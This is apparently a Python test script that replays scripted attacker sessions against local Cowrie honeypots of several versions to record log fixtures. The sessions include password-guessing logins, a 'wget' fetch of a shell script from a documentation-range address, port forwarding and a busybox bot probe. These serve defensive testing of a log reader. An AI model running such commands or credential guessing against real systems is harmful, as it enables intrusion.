"""Record one small scenario against one Cowrie of every minor version, for the tests of the log reader.

``python -m tests.recording.record_versions`` writes ``tests/fixtures/cowrie/recorded/<minor>/``: the JSON log
as Cowrie wrote it (only the ``uuid``, which can name a machine, is replaced) and the terminal recordings.
"""

from __future__ import annotations

import asyncio
import contextlib
import random
import re
import shutil
import sys
import tempfile
from pathlib import Path

import asyncssh

from tests.recording import clients
from tests.recording.bait_server import bait_server
from tests.recording.clients import Login, Target
from tests.recording.cowrie_env import Cowrie, running_cowrie
from tests.recording.typist import BACKSPACE, Hand, type_lines

VERSIONS = {"2.7": "2.7.0", "2.8": "2.8.1", "2.9": "2.9.0", "3.0": "3.0.15", "3.1": "3.1.4"}
FIXTURES = Path(__file__).parents[1] / "fixtures/cowrie/recorded"
NO_UUID = "00000000-0000-4000-8000-000000000000"
TYPED = (
    "uname -a",
    "sl" + BACKSPACE * 2 + "ls -la",
    "sl",
    "wget http://203.0.113.9/demo.sh",
    "crontab -l",
    "exit",
)
ROOT = Login("root", ("hunter22",))


async def scenario(pot: Cowrie) -> None:
    """Everything that one version is asked to log, one attacker after the other."""
    ssh = [Target(pot.ssh_port, f"127.0.0.{last}") for last in range(21, 28)]
    await clients.fails_to_log_in(ssh[0], clients.LIBSSH, Login("root", ("root", "123456", "honeypot")))
    await _shell(ssh[1])
    async with clients.connected(ssh[2], clients.GO, ROOT) as connection:
        await clients.run_command(connection, "cat /proc/cpuinfo | grep model | wc -l; nosuchprogram --help")
    await _forward(ssh[3])
    await _upload(ssh[4])
    await _only_connect(ssh[5])
    if pot.telnet_port is not None:
        await _telnet(Target(pot.telnet_port, "127.0.0.28"))
    await asyncio.sleep(1.0)


async def _shell(target: Target) -> None:
    login = Login("root", ("123456", "hunter22"))
    async with clients.ssh_screen(target, clients.OPENSSH_JAMMY, login, size=(120, 40)) as screen:
        await type_lines(screen, TYPED, Hand(0.09, 0.6), random.Random(7))


async def _forward(target: Target) -> None:
    async with clients.connected(target, clients.PARAMIKO, ROOT) as connection:
        with contextlib.suppress(asyncssh.ChannelOpenError):
            reader, writer = await connection.open_connection("198.51.100.80", 80, encoding=None)
            writer.write(b"GET / HTTP/1.0\r\nHost: www.example\r\n\r\n")
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(reader.read(1024), 1)
            writer.close()


async def _upload(target: Target) -> None:
    async with clients.connected(target, clients.LIBSSH2, ROOT) as connection:
        with contextlib.suppress(asyncssh.Error, OSError):
            async with connection.start_sftp_client() as sftp, sftp.open("/tmp/upload.txt", "wb") as file:
                await file.write(b"harmless upload\n")
        with tempfile.NamedTemporaryFile(suffix=".txt") as source:
            Path(source.name).write_bytes(b"harmless upload by scp\n")
            with contextlib.suppress(asyncssh.Error, OSError, TimeoutError):
                await asyncio.wait_for(asyncssh.scp(source.name, (connection, "/tmp/by-scp.txt")), 10)


async def _only_connect(target: Target) -> None:
    _reader, writer = await asyncio.open_connection(target.host, target.port, local_addr=(target.source, 0))
    await asyncio.sleep(0.5)
    writer.close()


async def _telnet(target: Target) -> None:
    async with clients.telnet_screen(target, Login("root", ("root", "hunter22"))) as screen:
        await type_lines(screen, ("enable", "/bin/busybox ECCHI", "exit"), Hand(0.0, 0.2), random.Random(8))


def keep(pot: Cowrie, place: Path) -> None:
    """Copy log and recordings of a stopped Cowrie to ``place``."""
    shutil.rmtree(place, ignore_errors=True)
    (place / "tty").mkdir(parents=True)
    log = re.sub(r'("uuid":")[^"]*', rf"\g<1>{NO_UUID}", pot.log_path.read_text("utf-8"))
    (place / "cowrie.json").write_text(log, "utf-8")
    for recording in pot.tty_dir.iterdir():
        (place / "tty" / recording.name).write_bytes(recording.read_bytes())


async def record(minor: str, version: str, bait_port: int) -> None:
    """Make the fixture of one minor version anew."""
    with tempfile.TemporaryDirectory() as workdir:
        async with running_cowrie(
            Path(workdir), version=version, sensor="decoy-01", bait_port=bait_port
        ) as pot:
            await scenario(pot)
        keep(pot, FIXTURES / minor)


async def main(minors: list[str]) -> None:
    async with bait_server() as port, asyncio.TaskGroup() as group:
        for minor in minors or VERSIONS:
            group.create_task(record(minor, VERSIONS[minor], port), name=f"cowrie {minor}")


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1:]))
